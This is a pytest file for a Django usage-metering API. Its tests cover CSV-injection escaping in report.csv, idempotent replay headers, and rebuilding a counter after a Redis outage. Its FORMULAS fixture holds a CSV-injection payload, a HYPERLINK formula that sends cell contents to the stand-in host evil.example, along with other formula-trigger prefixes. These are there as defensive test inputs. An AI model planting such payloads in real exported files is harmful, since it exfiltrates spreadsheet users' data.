"""usage: report.csv escapes formulas (CSV injection), a single-event replay says it is one, and a
counter whose update Redis missed is rebuilt from the rollup (issue 14, items 5 and 9)."""

import csv
import io

import pytest

from tests.usage.conftest import event

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+2",
    "-3+4",
    "@SUM(A1)",
    "\tTAB",
    "\rCR",
]


def test_report_csv_cells_that_a_spreadsheet_would_run_start_with_an_apostrophe(owner_client):
    for n, text in enumerate(FORMULAS):
        response = owner_client.post(
            "/api/v1/usage", event(source=text[:64], transaction_id=f"{text}|{n}"), format="json"
        )
        assert response.status_code == 201, response.content
    owner_client.post(
        "/api/v1/usage", event(source="plain-source", transaction_id="tx-plain"), format="json"
    )
    response = owner_client.get("/api/v1/usage/report.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    by_tx = {row["transaction_id"]: row for row in rows}
    for n, text in enumerate(FORMULAS):
        row = by_tx[f"'{text}|{n}"]
        assert row["source"] == "'" + text[:64]
    assert by_tx["tx-plain"]["source"] == "plain-source"  # ordinary text is untouched
    assert all(not row["quantity"].startswith("'") for row in rows)


def test_single_event_replay_says_it_is_a_replay(owner_client):
    body = event(quantity="2")
    first = owner_client.post("/api/v1/usage", body, format="json", HTTP_IDEMPOTENCY_KEY="replay-1")
    again = owner_client.post("/api/v1/usage", body, format="json", HTTP_IDEMPOTENCY_KEY="replay-1")
    assert first.status_code == 201 and "Idempotent-Replayed" not in first
    assert again.status_code == 200 and again["Idempotent-Replayed"] == "true"
    assert again.json()["event_id"] == first.json()["event_id"]
    by_tx = owner_client.post("/api/v1/usage", event(transaction_id="tx-r"), format="json")
    by_tx_again = owner_client.post("/api/v1/usage", event(transaction_id="tx-r"), format="json")
    assert "Idempotent-Replayed" not in by_tx and by_tx_again["Idempotent-Replayed"] == "true"
    other = owner_client.post(
        "/api/v1/usage", event(quantity="3"), format="json", HTTP_IDEMPOTENCY_KEY="replay-1"
    )
    assert other.status_code == 409 and other.json()["error"]["code"] == "idempotency_conflict"


def test_counter_missed_during_an_outage_is_rebuilt_from_the_rollup(
    tenant, ingest_client, on_commit, monkeypatch
):
    import redis

    from usage import counters

    def check():
        return ingest_client.get("/api/v1/entitlements/check", {"resource": "api_calls"}).json()[
            "used"
        ]

    with on_commit():
        assert (
            ingest_client.post("/api/v1/usage", event(quantity="614"), format="json").status_code
            == 201
        )
    assert check() == "614"

    real = counters.get_redis
    unreachable = redis.Redis(host="127.0.0.1", port=1, socket_connect_timeout=0.5)
    monkeypatch.setattr(counters, "get_redis", lambda: unreachable)
    with on_commit():
        assert (
            ingest_client.post("/api/v1/usage", event(quantity="70"), format="json").status_code
            == 201
        )
    monkeypatch.setattr(counters, "get_redis", real)

    assert check() == "684"  # not the 614 Redis still holds
